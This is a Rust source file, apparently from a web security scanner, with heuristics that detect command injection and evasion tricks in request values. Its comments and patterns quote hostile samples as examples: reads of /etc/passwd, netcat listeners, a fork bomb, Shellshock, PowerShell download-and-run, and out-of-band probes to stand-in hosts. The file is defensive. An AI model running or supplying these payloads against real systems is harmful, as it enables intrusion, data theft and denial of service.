/// `'fmt',`)?
fn quoted_alone(rest: &str, start: usize, end: usize) -> bool {
    let b = rest.as_bytes();
    let Some(&q @ (b'"' | b'\'')) = b.get(end) else {
        return false;
    };
    if start == 0 || b[start - 1] != q || !rest[..start - 1].trim().is_empty() {
        return false;
    }
    let line = rest[end + 1..].split('\n').next().unwrap_or("");
    line.trim_end_matches(['\r', ' ', '\t'])
        .trim_end_matches(',')
        .is_empty()
}

/// A version requirement after a name on its own line (`Python >= 3.10`, `Django < 5`,
/// `numpy == 1.26.*`): a comparison, a space, then a version and nothing else on the line
/// (a lone `>` or `<` only after a capitalized name).
/// To a shell `>=` redirects into a file named `=`: nobody writes that, and the line has no
/// argument that could do anything.
fn version_requirement(name: &str, args: &str) -> bool {
    let line = args.split('\n').next().unwrap_or(args).trim();
    // `>` and `<` alone only after a capitalized name (`Django < 5`): `id > 1.2` runs `id`.
    let capitalized = name.starts_with(|c: char| c.is_ascii_uppercase());
    let ops: &[&str] = if capitalized {
        &[">=", "<=", "==", "!=", "~=", ">", "<"]
    } else {
        &[">=", "<=", "==", "!=", "~="]
    };
    let Some(version) = ops
        .iter()
        .find_map(|op| line.strip_prefix(op))
        .and_then(|v| v.strip_prefix(' '))
    else {
        return false;
    };
    let version = version.trim_end_matches(['.', ',']);
    version.starts_with(|c: char| c.is_ascii_digit())
        && version
            .bytes()
            .all(|b| b.is_ascii_digit() || matches!(b, b'.' | b'*'))
}

/// A parenthesis in a sentence after a line break (`…for user/group/world\n(chmod +x) is
/// no-op on windows`): to a shell `( … )` is a subshell, and a word right after its `)`
/// is a syntax error, so nothing in it runs.
fn parenthetical(rest: &str) -> bool {
    let t = rest.trim_start();
    if !t.starts_with('(') {
        return false;
    }
    crate::matching(t, ')').is_some_and(|close| {
        t[close + 1..]
            .trim_start_matches([' ', '\t'])
            // A number there is a redirection's descriptor (`(sh)0>$d/tcp/…`).
            .starts_with(char::is_alphabetic)
    })
}

fn skip_ifs(rest: &str) -> &str {
    let mut r = rest;
    loop {
        let before = r.len();
        if let Some(after) = r.strip_prefix("${IFS") {
            r = after.find('}').map_or(r, |end| &after[end + 1..]);
        } else if let Some(after) = r.strip_prefix("$IFS") {
            r = after;
        } else if r.starts_with('$') && r.as_bytes().get(1).is_some_and(u8::is_ascii_digit) {
            r = &r[2..];
        }
        if r.len() == before {
            return r;
        }
    }
}

/// System files and command binaries: what a shell glob in a value is checked against.
static SYSTEM_PATHS: LazyLock<Vec<String>> = LazyLock::new(|| {
    let mut paths: Vec<String> = [
        "/etc/passwd",
        "/etc/shadow",
        "/etc/group",
        "/etc/hosts",
        "/etc/issue",
        "/etc/sudoers",
        "/proc/self/environ",
    ]
    .iter()
    .map(|p| p.to_string())
    .collect();
    for dir in [
        "/bin/",
        "/sbin/",
        "/usr/bin/",
        "/usr/sbin/",
        "/usr/local/bin/",
    ] {
        paths.extend(COMMANDS.iter().map(|c| format!("{dir}{c}")));
    }
    paths
});

/// A shell glob that names a system file or binary without spelling it (`/etc/pas[s]wd`,
/// `/usr/bin/[u]name`, `/bi?/bash`): bracket expressions and wildcards in an absolute
/// path are how payloads slip past word filters; a real client sends the path itself.
fn globbed_system_path(text: &str) -> Option<f32> {
    text.split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '=' | '\'' | '"'))
        .filter(|t| t.starts_with('/') && t.len() <= 64 && t.contains(['[', '?', '*']))
        // Some of the name spelled out: `/*/*` is a code comment's shape, not a target.
        // `?` wildcards over two segments (`/???/??t`, `/???/p??s??`) spell it by length.
        .filter(|t| {
            let letters = t.bytes().filter(u8::is_ascii_alphabetic).count();
            letters >= 3 || (letters >= 1 && t.matches('/').count() >= 2 && t.contains('?'))
        })
        // Each candidate is matched against some 500 paths: a value packed with glob
        // tokens must not multiply that.
        .take(8)
        .filter_map(|t| glob::Pattern::new(t).ok())
        .any(|p| {
            // `*` and `?` stay within one path segment, as in the shell.
            let opts = glob::MatchOptions {
                case_sensitive: true,
                require_literal_separator: true,
                require_literal_leading_dot: false,
            };
            SYSTEM_PATHS.iter().any(|path| p.matches_with(path, opts))
        })
        .then_some(0.85)
}

/// A command word broken up by shell no-ops (`pi''ng`, `w"h"oami`, `c\\at`, `cu$@rl`,
/// `pi$()ng`, ``pi``ng``): the shell joins the pieces back, word filters do not. Only
/// insertions between two letters or digits count: `say \"id\"` is an escaped quote.
fn obfuscated_command(text: &str) -> Option<f32> {
    // `$@`, `$*` and `$!` expand to nothing in a fresh shell; `$?`, `$-`, `$$` and `$#`
    // to a few characters. Either way no client spells a word with them.
    const NOOPS: [&str; 14] = [
        "''", "\"\"", "$@", "$*", "$!", "$?", "$-", "$$", "$#", "$()", "``", "<()", ">()", "\\",
    ];
    let mut cleaned = String::new();
    let tokens = text
        .split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '+'))
        .filter(|t| !t.is_empty());
    for token in tokens.take(8) {
        if token.len() > 40 {
            continue;
        }
        let b = token.as_bytes();
        let between = |i: usize| {
            i > 0
                && b[i - 1].is_ascii_alphanumeric()
                && b.get(i + 1).is_some_and(u8::is_ascii_alphanumeric)
        };
        // Single quotes around letters (`w'h'o'a'm'i`): two or more inside the word, so
        // that an apostrophe (`I'd`) is never one. `^` is cmd.exe's escape (`c^m^d`).
        // reStructuredText's inline literal (``base64``) in a sentence: the empty
        // substitutions on both sides are its markup, not a word's disguise.
        let literal = token.len() > 4
            && token.starts_with("``")
            && token.ends_with("``")
            && !token[2..token.len() - 2].contains('`')
            && crate::xss::prose_words(text) >= 3;
        let quoted_letters = (0..b.len())
            .filter(|&i| b[i] == b'\'' && between(i))
            .count()
            >= 2;
        cleaned.clear();
        let mut broken = false;
        let mut i = 0;
        while i < b.len() {
            // A no-op, or a quote pair around letters (`w"h"oami`): drop it.
            // (A lone apostrophe is no no-op: `I'd` is not `id`.)
            // A substitution of an unknown short word inside the word (`` w`u`h`u`oami ``):
            // the shell finds no such command and it expands to nothing.
            let unknown_substitution = || {
                if b[i] != b'`' || i == 0 || !b[i - 1].is_ascii_alphanumeric() {
                    return None;
                }
                let len = b[i + 1..].iter().position(|&c| c == b'`')?;
                let word = &token[i + 1..i + 1 + len];
                let known = Rce::command(word).is_some();
                (len > 0 && len <= 8 && word.bytes().all(|c| c.is_ascii_alphanumeric()) && !known)
                    .then_some(len + 2)
            };
            let noop = NOOPS
                .iter()
                .find(|n| b[i..].starts_with(n.as_bytes()))
                .map(|n| n.len())
                .or_else(unknown_substitution)
                .or_else(|| {
                    (b[i] == b'"'
                        || (b[i] == b'^' && between(i))
                        || (b[i] == b'\'' && quoted_letters && between(i)))
                    .then_some(1)
                });
            match noop {
                Some(n) => {
                    let after_word = i > 0 && b[i - 1].is_ascii_alphanumeric();
                    let inside = after_word && b.get(i + n).is_some_and(u8::is_ascii_alphanumeric);
                    // An empty substitution closing the word (`ping$()`, ``ping`` ``) joins
                    // nothing, so it only hides the word; empty quotes there are CSV.
                    let trailing = after_word
                        && i + n == b.len()
                        && !matches!(b[i], b'\'' | b'"' | b'\\')
                        && !literal;
                    broken |= inside || trailing;
                    i += n;
                }
                None => {
                    cleaned.push(char::from(b[i]));
                    i += 1;
                }
            }
        }
        if broken
            && cleaned.len() >= 2
            && cleaned.bytes().all(|c| c.is_ascii_alphanumeric())
            && (Rce::command(&cleaned).is_some() || runner(&cleaned).is_some())
        {
            return Some(0.85);
        }
    }
    None
}

/// A system path spelled with unset variables between its pieces (`$u/bin$u/cat$u
/// $u/etc$u/passwd$u`, `$aaa/bin$bbb/cat$ccc`): each `$name` expands to nothing, and the
/// shell runs `/bin/cat /etc/passwd`. Three or more insertions in one word, and the word
/// without them a system file or a program by path: `$HOME/bin/$TOOL` is a path a script
/// builds, with its variables where path segments go.
#[cold]
fn unset_variables(text: &str) -> Option<f32> {
    text.split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '+'))
        .filter(|t| t.len() <= 80 && t.contains('$') && t.contains('/'))
        .take(8)
        .any(|token| {
            let mut cleaned = String::with_capacity(token.len());
            let mut vars = 0;
            let mut chars = token.char_indices().peekable();
            while let Some((i, c)) = chars.next() {
                // `$` is one byte: `i + 1` starts the next character.
                let name = if c == '$' {
                    token[i + 1..]
                        .bytes()
                        .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
                        .count()
                } else {
                    0
                };
                if name > 0 && token.as_bytes()[i + 1].is_ascii_alphabetic() {
                    vars += 1;
                    for _ in 0..name {
                        chars.next();
                    }
                } else {
                    cleaned.push(c);
                }
            }
            vars >= 3
                && cleaned.starts_with('/')
                && (SYSTEM_PATHS.contains(&cleaned)
                    || Rce::command(&cleaned).is_some_and(|(_, by_path)| by_path))
        })
        .then_some(0.85)
}

/// A bash fork bomb: a function whose body runs itself piped into or beside itself in the
/// background, then called (`:(){ :|:& };:`, `f(){ f & f; }; f`). Recursion through `|` or
/// `&` has no use but exhausting the host.
#[cold]
fn fork_bomb(text: &str) -> Option<f32> {
    let open = text.find("()")?;
    let name = text[..open]
        .rsplit(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|'))
        .next()
        .filter(|n| !n.is_empty() && n.len() <= 32)?;
    let after = text[open + 2..].trim_start();
    let body = after.strip_prefix('{')?;
    let close = body.find('}')?;
    let (body, rest) = (&body[..close], &body[close + 1..]);
    // How often the function's name appears as a word (calls may carry their own `()`).
    let calls = |s: &str| {
        s.split(|c: char| c.is_whitespace() || matches!(c, '|' | '&' | ';' | '(' | ')'))
            .filter(|w| *w == name)
            .count()
    };
    (body.contains(['|', '&']) && calls(body) >= 2 && calls(rest) >= 1).then_some(0.9)
}

/// `${PATH:0:1}`, `${HOME:0:1}`, `${PWD:0:1}`, `${SHELL:0:1}` (the first character of a
/// variable that always holds an absolute path) replaced by the `/` they expand to.
fn slash_expansions(text: &str) -> String {
    let mut out = text.to_string();
    for var in ["PATH", "HOME", "PWD", "SHELL", "OLDPWD"] {
        out = out.replace(&format!("${{{var}:0:1}}"), "/");
    }
    out
}

/// Bash's ANSI-C quotes replaced by what they expand to (`$'\x69\x64'` and `$'\151\144'`
/// are `id`, `$'cat\x20/etc/passwd'` a command line; the normalizer may have decoded the
/// escapes already, leaving `$'id'`); `None` when the value has none. Scripts write `$'\n'`
/// and `$'\t'` for separators; a word in such quotes is a payload hiding from word filters.
fn ansi_c_expansions(text: &str) -> Option<String> {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    let mut spelled = false;
    while let Some(at) = rest.find("$'") {
        out.push_str(&rest[..at]);
        let body = &rest[at + 2..];
        let Some(close) = body.find('\'').filter(|&c| c <= 128) else {
            out.push_str("$'");
            rest = body;
            continue;
        };
        spelled = true;
        let b = &body.as_bytes()[..close];
        let mut i = 0;
        while i < b.len() {
            let digits = |from: usize, radix: u32, max: usize| {
                let n = b[from..]
                    .iter()
                    .take(max)
                    .take_while(|c| char::from(**c).is_digit(radix))
                    .count();
                (n > 0)
                    .then(|| u8::from_str_radix(&body[from..from + n], radix).ok())
                    .flatten()
                    .map(|v| (v, n))
            };
            let code = match (b[i], b.get(i + 1)) {
                (b'\\', Some(b'x')) => digits(i + 2, 16, 2).map(|(v, n)| (v, n + 2)),
                (b'\\', Some(b'0'..=b'7')) => digits(i + 1, 8, 3).map(|(v, n)| (v, n + 1)),
                _ => None,
            };
            match code {
                Some((v, n)) if v.is_ascii() => {
                    out.push(char::from(v));
                    i += n;
                }
                _ if b[i] == b'\\' => {
                    out.push('\\');
                    i += 1;
                }
                // Up to the next backslash: whole characters, whatever their width.
                _ => {
                    let next = body[i..close].find('\\').map_or(close, |n| i + n);
                    out.push_str(&body[i..next]);
                    i = next;
                }
            }
        }
        rest = &body[close + 1..];
    }
    out.push_str(rest);
    spelled.then_some(out)
}

/// Shellshock: a value that opens with a function definition, `() {`, which vulnerable
/// bash runs the rest of when it imports the value from the environment (CGI headers).
#[cold]
fn shellshock(text: &str) -> Option<f32> {
    let rest = text.trim_start().strip_prefix('(')?.trim_start();
    rest.strip_prefix(')')?
        .trim_start()
        .starts_with('{')
        .then_some(0.9)
}

/// Bash brace expansion that spells a command without a space (`{cat,/etc/passwd}`,
/// `{,ifconfig}`, `c{a,oun}t`, `{l,-lh}s`): the shell expands it into words, a filter sees
/// one token. Counted when the expansion has an empty alternative or sticks to letters (no
/// list of options writes either), or when it reads as a command with a flag or a path.
#[cold]
fn brace_command(text: &str) -> Option<f32> {
    let text = text.trim();
    if text.len() > 200 || text.contains(char::is_whitespace) || !text.contains(',') {
        return None;
    }
    let open = text.find('{')?;
    let close = open + text[open..].find('}')?;
    let (prefix, inner, suffix) = (&text[..open], &text[open + 1..close], &text[close + 1..]);
    if !inner.contains(',') || inner.contains('{') {
        return None;
    }
    let mut words = inner
        .split(',')
        .filter(|alt| !alt.is_empty() || !prefix.is_empty() || !suffix.is_empty())
        .map(|alt| format!("{prefix}{alt}{suffix}"));
    let first = words.next()?;
    let rest: Vec<String> = words.collect();
    let expanded = format!("{first} {}", rest.join(" "));
    // `$'id'` and `$"id"` are quoted words.
    let Some(command) = Rce::command(first.trim_start_matches('$')) else {
        return globbed_system_path(&expanded);
    };
    let empty_alt = inner.split(',').any(str::is_empty);
    let glued = prefix.bytes().any(|b| b.is_ascii_alphabetic())
        || suffix.bytes().any(|b| b.is_ascii_alphabetic());
    let argued = rest
        .first()
        .is_some_and(|w| w.starts_with(['-', '/']) || command.1);
    if empty_alt || glued || argued {
        return Some(0.85);
    }
    globbed_system_path(&expanded)
}

/// Mail-protocol commands smuggled after a CRLF into a value a server passes to an SMTP,
/// IMAP or POP3 session (`\r\nRCPT TO:<x>`, `\r\na001 STATUS INBOX`, `\r\nRETR 1`). Each
/// command needs its own argument grammar: "\r\nList 3 things" is a text area's line.
static MAIL_COMMAND: LazyLock<regex::Regex> = LazyLock::new(|| {
    regex::Regex::new(
        r"(?im)\r\n(?:(?:mail\s+from|rcpt\s+to)\s*:\s*<|(?:helo|ehlo)\s+[\w-]+\.[\w.-]+\s*$|(?:retr|dele)\s+\d+\s*$|top\s+\d+\s+\d+\s*$|apop\s+\S+\s+[0-9a-f]{32}|auth\s+\w+\s+[a-z0-9+/]{8,}=*\s*$|[a-z]{1,2}\d{1,4}\s+(?:append|authenticate|status|uid|login|select|examine|fetch|store|logout|capability)\b)",
    )
    // A constant pattern: compiling it cannot fail.
    .unwrap_or_else(|_| unreachable!())
});

#[cold]
fn mail_command(text: &str) -> Option<f32> {
    (text.len() <= 4096 && text.contains("\r\n") && MAIL_COMMAND.is_match(text)).then_some(0.85)
}

/// PowerShell download-and-run: `iwr http://…`, `Invoke-WebRequest http://…`,
/// `iex (New-Object Net.WebClient).DownloadString(…)`. Judged as a command word, at the
/// start of the value or after a separator, with a URL, an expression or a variable after.
fn powershell(word: &str, next: &str) -> bool {
    const CMDLETS: [&str; 8] = [
        "iwr",
        "irm",
        "iex",
        "invoke-webrequest",
        "invoke-restmethod",
        "invoke-expression",
        "start-bitstransfer",
        "new-object",
    ];
    // The cmdlets are 3, 10, 17 or 18 bytes long, the word one of them or one and `(`: most
    // words stop here (this runs per value).
    let b = word.as_bytes();
    let Some(len) = [3, 10, 17, 18]
        .into_iter()
        .find(|&n| b.len() == n || b.get(n) == Some(&b'('))
    else {
        return false;
    };
    let (word, next) = if len < b.len() {
        (&word[..len], "(")
    } else {
        (word, next.trim_start())
    };
    if !CMDLETS.iter().any(|c| word.eq_ignore_ascii_case(c)) {
        return false;
    }
    let n = next.as_bytes();
    let url = n.len() > 8
        && (n[..7].eq_ignore_ascii_case(b"http://") || n[..8].eq_ignore_ascii_case(b"https://"));
    let webclient = n.len() > 12
        && (n[..13].eq_ignore_ascii_case(b"net.webclient")
            || n.len() > 19 && n[..20].eq_ignore_ascii_case(b"system.net.webclient"));
    url || webclient || next.starts_with(['(', '$'])
}

/// SQLite shell dot-commands after a statement break (`1;.shell nc … -e sh`,
/// `";\n.system id`): a value fed to the `sqlite3` command line runs them. The line break
/// may arrive as a literal `\n`; `.shell` and `.system` count with a known command after.
static SQLITE_DOT: LazyLock<regex::Regex> = LazyLock::new(|| {
    regex::Regex::new(
        r#"(?i);(?:\s|\\[nrt]?|["'])*\.(?:\s|\\[nrt]?|["'])*(?:(?:shell|system|sh)\s+([^\s;|&]+)|databases(?:\s|\\n|$))"#,
    )
    // A constant pattern: compiling it cannot fail.
    .unwrap_or_else(|_| unreachable!())
});

fn sqlite_dot_command(text: &str) -> Option<f32> {
    // A dot within a few bytes after a `;`, or no dot-command can be there.
    let b = text.as_bytes();
    // (`;q=0.9` in an Accept header has a letter first).
    let near_dot = memchr::memchr_iter(b';', b).any(|at| {
        b[at + 1..].iter().take(8).find(|&&c| {
            !(c.is_ascii_whitespace() || matches!(c, b'\\' | b'"' | b'\'' | b'n' | b'r' | b't'))
        }) == Some(&b'.')
    });
    if text.len() > 4096 || !near_dot {
        return None;
    }
    SQLITE_DOT
        .captures_iter(text)
        .any(|c| c.get(1).is_none_or(|w| Rce::command(w.as_str()).is_some()))
        .then_some(0.85)
}

/// A command that runs the next word as a command, and whether it is no English word.
fn runner(word: &str) -> Option<(&'static str, bool)> {
    const RUNNERS: [(&str, bool); 8] = [
        ("nohup", true),
        ("strace", true),
        ("sudo", true),
        ("busybox", true),
        ("time", false),
        ("env", false),
        ("nice", false),
        ("timeout", false),
    ];
    // Compared in place: this runs for every value that reaches the bare-command check.
    RUNNERS
        .iter()
        .find(|(r, _)| word.eq_ignore_ascii_case(r))
        .copied()
}

/// Does `s` start (after whitespace) with `if` and a space, as a cmd.exe `IF` does?
fn starts_if(s: &str) -> bool {
    let t = s.trim_start().as_bytes();
    t.len() > 2 && t[..2].eq_ignore_ascii_case(b"if") && t[2].is_ascii_whitespace()
}

/// `for [/d|/r|/l|/f …] %var in (…) do …`: cmd.exe's loop, which runs its command per item.
/// The variable's `%` may already be gone (`%va` percent-decodes), so the shape is what
/// counts: `for`, a few tokens, `in (…)`, `do`.
static WINDOWS_FOR: LazyLock<regex::Regex> = LazyLock::new(|| {
    // The set may hold one level of parentheses (`in ('cmd /c "set /a (6+2)"')`).
    regex::Regex::new(
        r"(?i)\bfor\s+\S.{0,60}?\s+in\s*\((?<set>[^()]{0,200}|[^()]{0,100}\([^()]{0,100}\)[^()]{0,100})\)\s*do(\s|@|$)",
    )
        // A constant pattern: compiling it cannot fail.
        .unwrap_or_else(|_| unreachable!())
});

fn windows_for(text: &str) -> Option<f32> {
    if !text.contains('(') || text.len() > 400 {
        return None;
    }
    // BigQuery's and Snowflake's scripting loop over a query (`FOR record IN (SELECT word
    // FROM t) DO …`): cmd.exe's set is files, strings or numbers, never a query.
    let query = |set: &str| {
        let set = set.trim_start();
        crate::starts_with_word(set, "select") || crate::starts_with_word(set, "with")
    };
    // `is_match` first: most values have no loop, and it stops sooner than `captures`.
    (WINDOWS_FOR.is_match(text)
        && WINDOWS_FOR
            .captures(text)
            .is_some_and(|c| !c.name("set").is_some_and(|m| query(m.as_str()))))
    .then_some(0.8)
}

/// Does `arg` start with an option: `-x`, `--long`, or a `+` mode or command (`chmod +x`,
/// `vim +wq`)? A `+` before a number is arithmetic or a count (`+1`), not an option.
fn option(arg: &str) -> bool {
    // A dash alone is a dash in a sentence (`LC & NC - Boys038-XL.jpg`), not an option.
    arg.strip_prefix('-')
        .is_some_and(|a| a.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '-'))
        || arg
            .strip_prefix('+')
            .is_some_and(|a| a.starts_with(|c: char| c.is_ascii_alphabetic()))
}

/// A search pipeline's `eval` stage (Splunk's `… | eval dur_s=duration/1000 | where …`):
/// its segment, up to the next `|`, opens with a field name and `=` (not `==`), and holds
/// no substitution, quote, `;`, `&` or redirection. To a shell, `eval name=value` only sets
/// a variable; a command run by `eval` is a word, a quote or a substitution.
fn eval_assignment(after: &str) -> bool {
    let segment = after[..after.find(['|', '\n']).unwrap_or(after.len())].trim_start();
    let name = segment
        .bytes()
        .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
        .count();
    name > 0
        && segment[name..].trim_start().starts_with('=')
        && !segment[name..].trim_start().starts_with("==")
        && !segment.contains(['$', '`', ';', '&', '>', '<', '\'', '"'])
}

/// Output piped into a text filter that reads no file: `kubectl get pods | grep -v
/// Running`, `dmesg | tail -20`, `journalctl -u nginx | tail -n 50`, the pipelines readers
/// paste to show what they ran. A filter only prints less of what came before. Its
/// segment (up to the next separator) holds options, numbers and, for `grep`, one
/// pattern; one word more would be a file to read (`| grep -v x config.php`,
/// `| head .env`), and a path, a redirection, a substitution or a recursive search
/// (`| grep -r secret .`) still counts. `awk` and `sed` run programs and are no filters here;
/// `sort`, `uniq` or `wc` are no commands this detector knows.
fn filter_pipe(name: &str, after: &str) -> bool {
    let patterns = match name {
        "grep" => 1,
        "head" | "tail" | "less" | "more" | "nl" | "tac" => 0,
        _ => return false,
    };
    let end = after.find(['|', ';', '&', '\n']).unwrap_or(after.len());
    // In markup (a rich-text editor's `<span>kubectl get pods | grep CrashLoop</span>`) the
    // command line ends at its element's closing tag, `</` and a name (`span`, MJML's
    // `mj-title`), then `>`: to a shell that is a redirection from `/span` and one to
    // nothing, a syntax error.
    let end = after[..end]
        .match_indices("</")
        .find(|&(at, _)| {
            let name = &after[at + 2..end];
            let len = name
                .bytes()
                .take_while(|&c| c.is_ascii_alphanumeric() || c == b'-')
                .count();
            name.starts_with(|c: char| c.is_ascii_alphabetic()) && name[len..].starts_with('>')
        })
        .map_or(end, |(at, _)| at);
    let segment = &after[..end];
    if segment.contains(['/', '\\', '$', '`', '>', '<', '(', ')', '{', '}']) {
        return false;
    }
    let mut words = 0;
    for arg in segment.split_ascii_whitespace() {
        let arg = arg.trim_matches(['\'', '"']);
        if option(arg) {
            let long = arg.trim_start_matches('-');
            let recursive = matches!(name, "grep" | "egrep" | "fgrep")
                && (long.starts_with("recursive")
                    || long.starts_with("file")
                    || long.starts_with("directories")
                    || (!arg.starts_with("--") && long.contains(['r', 'R', 'f', 'd'])));
            if recursive || long.starts_with("files0-from") {
                return false;
            }
        } else if !arg.bytes().all(|b| b.is_ascii_digit()) {
            words += 1;
        }
    }
    words <= patterns
}

/// Programs that tell about the host, reach out, or stop it with no argument at all (`id`,
/// `uname`, `ls`, `ifconfig`, `reboot`): what a probe runs bare.
fn acts_alone(name: &str) -> bool {
    matches!(
        name,
        "id" | "whoami"
            | "uname"
            | "hostname"
            | "printenv"
            | "ifconfig"
            | "ip"
            | "netstat"
            | "ss"
            | "ps"
            | "w"
            | "who"
            | "last"
            | "pwd"
            | "ls"
            | "dir"
            | "set"
            | "groups"
            | "arp"
            | "route"
            | "lsof"
            | "top"
            | "df"
            | "mount"
            | "reboot"
            | "shutdown"
            | "halt"
            | "poweroff"
            | "yes"
    )
}

/// Programs that do nothing a probe can see without an argument: they read their input,
/// print an empty line, or fail with a usage message.
fn needs_argument(name: &str) -> bool {
    matches!(
        name,
        "cat"
            | "more"
            | "less"
            | "head"
            | "tail"
            | "echo"
            | "sleep"
            | "ping"
            | "curl"
            | "wget"
            | "rm"
            | "cp"
            | "mv"
            | "touch"
            | "chmod"
            | "chown"
            | "grep"
            | "sort"
            | "tee"
            | "kill"
            | "mail"
    )
}

/// A number as the command's last argument, or before more shell (`; sleep 5`, `| ping
/// 127.0.0.1 -c 3`, `;sleep 10s #`): a probe's argument, for the commands a probe gives a
/// number (the caller checks which). A number that more words follow is a sentence
/// (`Reviews; more 10 this week`), and after other commands a word (`PO 7781; net 30`).
fn numeric_argument(next: &str) -> bool {
    if !next.starts_with(|c: char| c.is_ascii_digit()) {
        return false;
    }
    let end = next.find(char::is_whitespace).unwrap_or(next.len());
    let tail = next[end..].trim_start();
    tail.is_empty()
        || tail.starts_with([';', '|', '&', '#', '`', ')', '>', '<', '-', '\'', '"', '$'])
}

/// The length of a shell variable's expansion at the start of `s`: `$name` or `${name}`,
/// the name starting with a letter or `_`.
fn expansion_len(s: &str) -> Option<usize> {
    let rest = s.strip_prefix('$')?;
    let (name, braced) = match rest.strip_prefix('{') {
        Some(r) => (r, true),
        None => (rest, false),
    };
    if !name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_') {
        return None;
    }
    let end = name
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .unwrap_or(name.len());
    if braced {
        name[end..].starts_with('}').then_some(end + 3)
    } else {
        Some(end + 1)
    }
}

/// Two or more expansions side by side (`$a$b`, `${a}${b}`), then the word's end: a word
/// the shell assembles from pieces set earlier (`a=c;b=at;$a$b /etc/passwd`). Scripts put a
/// variable where a whole word or a path segment goes, never glue a program's name.
fn assembled_word(s: &str) -> bool {
    let mut at = 0;
    let mut pieces = 0;
    while let Some(n) = expansion_len(&s[at..]) {
        at += n;
        pieces += 1;
    }
    pieces >= 2
        && s[at..]
            .chars()
            .next()
            .is_none_or(|c| c.is_whitespace() || c == ';')
}

/// A shell variable run as the command after a separator: `a=nc&&$a -nlvp 555`, `;$a cat
/// x`, `;${SHELL} -c id` (the attacker set it earlier, or it expands to nothing and the next
/// word runs). A letter-named variable, a space, then an option with a letter, a known
/// command, a system file or a word assembled from variables; or a command word assembled
/// from variables itself (`;$a$b $c`). Code in a sentence puts an operator there (`$a &&
/// $b - 1`, `$x->y`).
fn variable_command(s: &str) -> bool {
    let Some(end) = expansion_len(s) else {
        return false;
    };
    if assembled_word(s) {
        return true;
    }
    let after = &s[end..];
    if !after.starts_with([' ', '\t']) {
        return false;
    }
    let next = after.trim_start();
    let flag = next
        .strip_prefix('-')
        .is_some_and(|f| f.starts_with(|c: char| c.is_ascii_alphabetic() || c == '-'))
        && !powershell_operator(next);
    let (s2, e2) = Rce::first_word_span(next);
    // `$u=cat;$u /etc/passwd`: the variable stands for the program, the argument is a system
    // file.
    let system_file = ["/etc/", "/proc/self", "/bin/", "/dev/tcp/"]
        .iter()
        .any(|p| next.starts_with(p));
    flag || system_file || assembled_word(next) || (s2 == 0 && Rce::command(&next[..e2]).is_some())
}

/// PowerShell's comparison, text and logic operators after a variable (`$i -lt $n`,
/// `$($list -join ",")`, `$name -notmatch '^x'`), with its case-sensitive and insensitive
/// forms (`-ceq`, `-ilike`), then a blank: an expression, not a program's option. Injected
/// programs take one-letter options or words (`$a -nlvp 555`, `$u -c id`).
fn powershell_operator(next: &str) -> bool {
    const OPERATORS: [&str; 26] = [
        "eq",
        "ne",
        "gt",
        "ge",
        "lt",
        "le",
        "like",
        "notlike",
        "match",
        "notmatch",
        "contains",
        "notcontains",
        "in",
        "notin",
        "replace",
        "split",
        "join",
        "is",
        "isnot",
        "as",
        "band",
        "bor",
        "bxor",
        "and",
        "or",
        "xor",
    ];
    let Some(op) = next.strip_prefix('-') else {
        return false;
    };
    let end = op
        .find(|c: char| !c.is_ascii_alphabetic())
        .unwrap_or(op.len());
    let (word, after) = op.split_at(end);
    let known = |w: &str| OPERATORS.iter().any(|o| o.eq_ignore_ascii_case(w));
    let cased = word.strip_prefix(['c', 'i', 'C', 'I']).is_some_and(known);
    (known(word) || cased) && after.starts_with([' ', '\t'])
}

/// A value that opens with a command separator, then a lower-case command word with a flag
/// after it (`;perf --version`, `& lastlog -u root`) or a known command alone (`| id`): the
/// shape of a parameter appended to a shell command, which no prose starts with.
fn leading_separator_command(text: &str) -> Option<f32> {
    let t = text.trim_start();
    let (sep, rest) = [";", "&&", "||", "|", "&"]
        .iter()
        .find_map(|sep| Some((*sep, t.strip_prefix(sep)?.trim_start())))?;
    let end = rest
        .find(|c: char| {
            !(c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '_' | '-' | '.'))
        })
        .unwrap_or(rest.len());
    let word = &rest[..end];
    if word.len() < 2 || !word.starts_with(|c: char| c.is_ascii_lowercase()) {
        return None;
    }
    let after = &rest[end..];
    let flagged = after.starts_with([' ', '\t']) && option(after.trim_start());
    // `& more`, `& co` are prose; after `;` or a pipe a known command alone is not, nor
    // after `&` a reconnaissance command no sentence goes on with (`& id`, `& whoami`).
    let recon = [
        "id",
        "whoami",
        "uname",
        "ifconfig",
        "ipconfig",
        "netstat",
        "systeminfo",
        "tasklist",
        "nslookup",
        "pwd",
        "dir",
        "hostname",
    ];
    let alone = after.trim().is_empty()
        && (matches!(sep, ";" | "|" | "||") && Rce::command(word).is_some()
            || recon.contains(&word));
    // A known command given a URL, a drive path or only a number (`& curl http://x/r.txt`,
    // `& dir C:\`, `& sleep 1`): the arguments of a probe, not the words of a sentence.
    let arg = after.trim();
    let machine_arg = Rce::command(word).is_some()
        && (arg.starts_with("http://")
            || arg.starts_with("https://")
            || (arg.len() >= 3
                && arg.as_bytes()[0].is_ascii_alphabetic()
                && arg[1..].starts_with(":\\"))
            || (!arg.is_empty() && arg.bytes().all(|b| b.is_ascii_digit())));
    // A lookup or a request to a host name alone (`; nslookup abc.oast.example`, `| dig
    // x.burpcollaborator.net`): the out-of-band probe blind injections send.
    let probed_host =
        Rce::command(word).is_some_and(|(name, _)| network_probe(name)) && host_name(arg);
    // `| getent hosts x.oast.example &` resolves a name as nslookup does.
    let resolved = word == "getent"
        && ["hosts ", "ahosts "].iter().any(|db| {
            arg.strip_prefix(db).is_some_and(|h| {
                host_name(h.trim_end_matches(['&', ';', ' ']).trim_end_matches('.'))
            })
        });
    // cmd.exe's `| set /a 3482*7301`: a product the page echoes back, a blind probe.
    let arithmetic = word == "set"
        && arg.get(..3).is_some_and(|a| a.eq_ignore_ascii_case("/a "))
        && arg[3..].bytes().any(|b| b.is_ascii_digit())
        && arg[3..]
            .bytes()
            .all(|b| b.is_ascii_digit() || b"+-*/%() ".contains(&b));
    // cmd.exe's `net` asked about the domain (`& net view`, `| net user`, `; net
    // localgroup administrators`): reconnaissance, not "net user growth" (`net` lower-cased
